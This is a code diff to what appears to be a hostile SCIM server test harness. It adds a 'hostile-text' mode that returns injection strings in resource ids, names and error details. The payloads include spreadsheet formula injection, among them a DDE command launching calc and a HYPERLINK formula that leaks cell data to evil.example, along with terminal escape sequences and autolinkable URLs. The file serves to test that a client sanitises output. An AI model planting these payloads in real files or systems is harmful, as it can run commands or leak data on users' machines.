@@ -37,7 +37,23 @@ export const PATHOLOGIES = [
   'status-503-retry-after',
   'status-401',
   'status-404-on-filter',
+  // Output neutralisation: target text built to run in spreadsheets, terminals and Markdown.
+  'hostile-text',
 ] as const;
+
+/**
+ * hostile-text: what the target puts in ids, names and error details. Each string starts like a
+ * spreadsheet formula (OWASP CSV injection) and carries terminal escape sequences (ECMA-48: OSC
+ * title, clear screen, OSC 8 hyperlink, DCS query, 8-bit CSI 0x9B) and plain URLs a Markdown
+ * renderer would autolink.
+ */
+export const HOSTILE_TEXT_PAYLOADS = {
+  /** A resource id: no "/", so it still addresses the resource in a URL path. */
+  id: "=cmd|' /C calc'!A0\u001b]0;pwned\u0007\u009b2J",
+  displayName: '=HYPERLINK("http://evil.example/?leak="&A2,"click")\u001b[2J\u001b]8;;http://evil.example/\u001b\\x\u001b]8;;\u001b\\',
+  userName: '+SUM(1+1)\u001bP$q\u001b\\\u001b[1A@evil.example',
+  detail: '@SUM(1+1)*cmd|\' /C calc\'!A0 \u001b]0;pwned\u0007 \u001b[2J \u009b31m see http://evil.example/leak and www.evil.example',
+} as const;
 
 export type Pathology = (typeof PATHOLOGIES)[number];
 
@@ -131,6 +147,7 @@ function defaultAppliesTo(pathology: HostileMode, basePath: string): (request: H
     case 'status-404-on-filter':
       return (request) => isListQuery(request, basePath);
     case 'resource-without-id':
+    case 'hostile-text':
       return (request) => request.method === 'POST';
     default:
       return () => true;
@@ -237,6 +254,17 @@ class ScimBehaviour {
     delete created.password;
     store.set(id, created);
     return this.resource(201, created, `${this.basePath}/${resourceType}s/${id}`);
+  }
+
+  /** hostile-text: the resource created last takes the target's own id and names. */
+  reidentify(resourceType: SeedResource['resourceType'], id: string, changes: Record<string, unknown> & { id: string }): Record<string, unknown> | undefined {
+    const store = this.stores[resourceType];
+    const resource = store.get(id);
+    if (!resource) return undefined;
+    store.delete(id);
+    const updated = { ...resource, ...changes };
+    store.set(changes.id, updated);
+    return updated;
   }
 
   private resource(status: number, resource: Record<string, unknown>, location?: string): PlannedResponse {
@@ -607,7 +635,39 @@ export async function startHostileServer(options: HostileServerOptions): Promise
         writeMessage(connection, 404, error.headers, serialise(error.body));
         return;
       }
+      case 'hostile-text':
+        hostileText(connection, request, planned);
+        return;
     }
+  };
+
+  /**
+   * POSTs in turn: a 400 whose text/plain body holds the raw bytes (ESC, BEL, 0x9B, CR), a 201
+   * whose resource takes the hostile id and names, a 400 SCIM error with the hostile detail.
+   */
+  let hostilePosts = 0;
+  const hostileText = (connection: Connection, request: HostileRequest, planned: PlannedResponse): void => {
+    if (request.method !== 'POST') {
+      applyPathologyless(connection, planned);
+      return;
+    }
+    hostilePosts += 1;
+    const payloads = HOSTILE_TEXT_PAYLOADS;
+    if (hostilePosts % 3 === 1 || planned.status !== 201 || !isRecord(planned.body)) {
+      const body = `${payloads.detail}\r\n${payloads.displayName}\rOK`;
+      writeMessage(connection, 400, { 'Content-Type': 'text/plain; charset=utf-8' }, Buffer.from(body, 'utf8'));
+      return;
+    }
+    if (hostilePosts % 3 === 0) {
+      const error = scimError(400, payloads.detail, 'invalidValue');
+      writeMessage(connection, 400, error.headers, serialise(error.body));
+      return;
+    }
+    const resourceType = /\/Groups\/?$/.test(request.path) ? 'Group' : 'User';
+    const id = `${payloads.id}-${hostilePosts}`;
+    const names = resourceType === 'User' ? { displayName: payloads.displayName, userName: `${payloads.userName}-${hostilePosts}` } : { displayName: payloads.displayName };
+    const created = behaviour.reidentify(resourceType, String(planned.body.id), { id, ...names }) ?? planned.body;
+    writeMessage(connection, 201, { 'Content-Type': SCIM_JSON, Location: `${basePath}/${resourceType}s/${encodeURIComponent(id)}` }, serialise(created));
   };
 
   const pump = (connection: Connection): void => {
